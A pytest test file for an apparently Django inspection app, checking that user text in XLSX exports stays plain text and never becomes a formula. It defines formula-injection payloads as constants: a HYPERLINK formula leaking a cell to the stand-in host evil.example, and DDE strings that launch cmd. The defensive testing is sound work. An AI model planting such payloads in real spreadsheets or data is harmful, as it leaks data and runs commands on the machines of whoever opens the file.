"""User text never becomes a spreadsheet formula (issue 20): every XLSX export, the regulator's included, read
back with openpyxl: no cell is a formula, and the hostile text is there verbatim as text."""

from __future__ import annotations

import io
import zipfile

import pytest
from django.test import Client
from openpyxl import load_workbook

from ccinspect.continuity import Register
from ccinspect.web.continuity import services as csvc
from ccinspect.web.incidents import services as isvc
from ccinspect.web.inspections import services as svc

from .conftest import deficient_with_finding, login_client, token_for

HYPERLINK = '=HYPERLINK("http://evil.example/?leak="&A1,"click")'
DDE = "=cmd|' /C calc'!A0"
PLUS = "+1+cmd|' /C calc'!A0"
AT = "@SUM(1+1)*cmd|' /C calc'!A0"


def cells(content: bytes) -> list:
    wb = load_workbook(io.BytesIO(content))
    return [c for ws in wb.worksheets for row in ws.iter_rows() for c in row if c.value is not None]


def assert_no_formula(content: bytes, *expected: str) -> None:
    got = cells(content)
    assert [c.coordinate for c in got if c.data_type == "f"] == []
    values = {c.value for c in got}
    for text in expected:
        assert text in values, text
    # and in the file itself: no <f> element anywhere (what a spreadsheet program would run)
    with zipfile.ZipFile(io.BytesIO(content)) as z:
        for name in z.namelist():
            if name.startswith("xl/worksheets/"):
                assert b"<f>" not in z.read(name) and b"<f " not in z.read(name), name


@pytest.fixture
def hostile(world):
    w = world
    w.item, w.ev, w.f = deficient_with_finding(w)
    svc.update_finding(w.officer, w.f, remediation_plan=PLUS)
    w.f.refresh_from_db()
    w.f2 = svc.raise_finding(w.officer, w.item, title=HYPERLINK, description=DDE, severity="high",
                             due_date="2025-07-31", remediation_plan=AT)
    w.inc = isvc.create_incident(w.officer, w.a, {"title": DDE, "category": "other",
                                                  "detected_at": "2025-06-15T23:00",
                                                  "systems_affected": HYPERLINK})
    return w


def test_inspection_xlsx_keeps_user_text_as_text(hostile):
    w = hostile
    c = login_client(Client(), w.officer)
    assert_no_formula(c.get(f"/reports/inspections/{w.insp_a.pk}/xlsx/").content, HYPERLINK, PLUS, AT)


def test_tracking_xlsx_broker_and_regulator(hostile):
    w = hostile
    broker = login_client(Client(), w.officer).get("/reports/tracking.xlsx").content
    assert_no_formula(broker, HYPERLINK, DDE, PLUS, AT)
    regulator = login_client(Client(), w.regulator).get("/reports/tracking.xlsx").content  # every broker
    assert_no_formula(regulator, HYPERLINK, DDE, PLUS, AT)
    api = Client(HTTP_AUTHORIZATION=f"Bearer {token_for(w.officer)}")
    assert_no_formula(api.get("/api/reports/tracking").content, HYPERLINK, DDE)


def test_incident_register_broker_and_regulator(hostile):
    w = hostile
    assert_no_formula(login_client(Client(), w.officer).get("/incidents/export.xlsx").content, DDE, HYPERLINK)
    assert_no_formula(login_client(Client(), w.regulator).get("/incidents/export.xlsx").content, DDE, HYPERLINK)


def test_continuity_workbook_round_trips_hostile_text(world):
    w = world
    reg = Register.model_validate({"systems": [{"id": "S1", "name": HYPERLINK, "owner": DDE}]})
    csvc.replace_register(w.officer, w.a, reg, source="test")
    data = login_client(Client(), w.officer).get("/continuity/export.xlsx").content
    assert_no_formula(data, HYPERLINK, DDE)
    # read back by ccinspect's own importer: the same text, not a formula result
    csvc.import_workbook(w.officer, w.a, data)
    system = csvc.register_for(w.a).systems[0]
    assert (system.name, system.owner) == (HYPERLINK, DDE)
